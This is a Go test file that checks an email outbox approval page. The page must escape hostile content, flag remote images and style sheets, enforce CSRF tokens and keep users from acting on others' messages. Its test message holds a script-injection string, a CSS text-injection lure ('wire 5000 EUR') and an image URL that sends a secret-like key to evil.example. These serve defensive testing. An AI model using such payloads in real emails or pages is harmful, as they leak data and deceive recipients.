package main

import (
	"context"
	neturl "net/url"
	"strings"
	"testing"
	"time"

	"github.com/imap-mcp/imap-mcp/store"
)

// TestOutboxPage: a message waiting for approval shows with its content
// and a badge in the header; Send, Discard and Undo move only the
// person's own messages, only from the state they name, and need the
// CSRF token.
func TestOutboxPage(t *testing.T) {
	dir := t.TempDir()
	_, b := signedIn(t, map[string]string{"DATA_DIR": dir})
	if status := b.post("/accounts", b.accountForm()); status != 303 {
		t.Fatalf("create account = %d", status)
	}
	st, keys := openForTest(t, map[string]string{"DATA_DIR": dir})
	defer st.Close()
	ctx := context.Background()
	u, _ := st.EnsureLocalUser(ctx)
	accts, _ := st.ListAccounts(ctx, u.ID)
	other, _ := st.UpsertClerkUser(ctx, "user_other", "other@example.com")
	otherAcct := &store.MailAccount{UserID: other.ID, Label: "Other", Email: "o@example.com", IMAPHost: "imap.example.com", IMAPPort: 993,
		IMAPTLSMode: "tls", IMAPUser: "o", SMTPHost: "smtp.example.com", SMTPPort: 465, SMTPTLSMode: "tls", SMTPUser: "o"}
	if err := st.CreateAccount(ctx, otherAcct); err != nil {
		t.Fatal(err)
	}
	raw := "From: Alice <a@example.com>\r\nTo: bob@example.org\r\nSubject: Budget\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/plain\r\n\r\nThe numbers <script>alert(1)</script> are attached.\r\n" +
		"--b\r\nContent-Type: text/html\r\n\r\n<style>p::after{content:'wire 5000 EUR'}</style><p>Hi<img src=\"https://evil.example/p.gif?k=sk-live\"></p>\r\n" +
		"--b\r\nContent-Type: application/pdf; name=q3.pdf\r\nContent-Disposition: attachment; filename=q3.pdf\r\n\r\n%PDF-1.4 x\r\n--b--\r\n"
	add := func(id, userID, accountID, state string, at time.Time) string {
		t.Helper()
		it := &store.OutboxItem{ID: id, UserID: userID, AccountID: accountID, Kind: store.OutboxSend, MessageID: id + "@example.com",
			Recipients: `["bob@example.org"]`, Bcc: "[]", Subject: "Budget " + id[:4], IdemKey: id, State: state, SendAt: at}
		it.MIMEEnc = keys.Seal([]byte(raw), store.OutboxSecretContext(*it))
		if err := st.AddOutbox(ctx, it); err != nil {
			t.Fatal(err)
		}
		return id
	}
	approve := add("11111111-0000-0000-0000-000000000001", u.ID, accts[0].ID, store.OutboxPendingApproval, time.Now())
	discard := add("22222222-0000-0000-0000-000000000002", u.ID, accts[0].ID, store.OutboxPendingApproval, time.Now())
	undo := add("33333333-0000-0000-0000-000000000003", u.ID, accts[0].ID, store.OutboxScheduled, time.Now().Add(time.Hour))
	foreign := add("44444444-0000-0000-0000-000000000004", other.ID, otherAcct.ID, store.OutboxPendingApproval, time.Now())

	page := b.get("/outbox")
	if !strings.Contains(page, `data-testid="outbox-waiting"`) || !strings.Contains(page, "2 waiting") ||
		!strings.Contains(page, "The numbers &lt;script&gt;alert(1)&lt;/script&gt; are attached.") || !strings.Contains(page, "q3.pdf (application/pdf, 10 bytes)") ||
		!strings.Contains(page, `data-testid="outbox-undo"`) || strings.Contains(page, "Budget 4444") ||
		!strings.Contains(page, "a remote address: https://evil.example/p.gif?k=sk-live") || !strings.Contains(page, "a style sheet") {
		t.Fatalf("/outbox:\n%s", page)
	}
	csrf := csrfFrom(t, page)
	state := func(id string) string {
		it, err := st.GetOutbox(ctx, u.ID, id)
		if err != nil {
			t.Fatal(err)
		}
		return it.State
	}
	if status := b.post("/outbox/"+approve+"/send", neturl.Values{}); status != 403 || state(approve) != store.OutboxPendingApproval {
		t.Fatalf("send without the CSRF token = %d", status)
	}
	if status := b.post("/outbox/"+approve+"/send", neturl.Values{"_csrf": {csrf}}); status != 303 || state(approve) == store.OutboxPendingApproval {
		t.Fatalf("send = %d, state %s", status, state(approve))
	}
	if status := b.post("/outbox/"+discard+"/discard", neturl.Values{"_csrf": {csrf}}); status != 303 || state(discard) != store.OutboxCancelled {
		t.Fatalf("discard = %d, state %s", status, state(discard))
	}
	if status := b.post("/outbox/"+undo+"/undo", neturl.Values{"_csrf": {csrf}}); status != 303 || state(undo) != store.OutboxCancelled {
		t.Fatalf("undo = %d, state %s", status, state(undo))
	}
	if status := b.post("/outbox/"+undo+"/undo", neturl.Values{"_csrf": {csrf}}); status != 409 {
		t.Fatalf("undo again = %d, want 409", status)
	}
	if status := b.post("/outbox/"+foreign+"/send", neturl.Values{"_csrf": {csrf}}); status != 404 {
		t.Fatalf("another person's message = %d, want 404", status)
	}
	if it, _ := st.GetOutbox(ctx, other.ID, foreign); it.State != store.OutboxPendingApproval {
		t.Fatalf("another person's message is %s", it.State)
	}
	if page := b.get("/outbox"); strings.Contains(page, `data-testid="outbox-waiting"`) {
		t.Fatal("the badge stays with nothing waiting")
	}
}
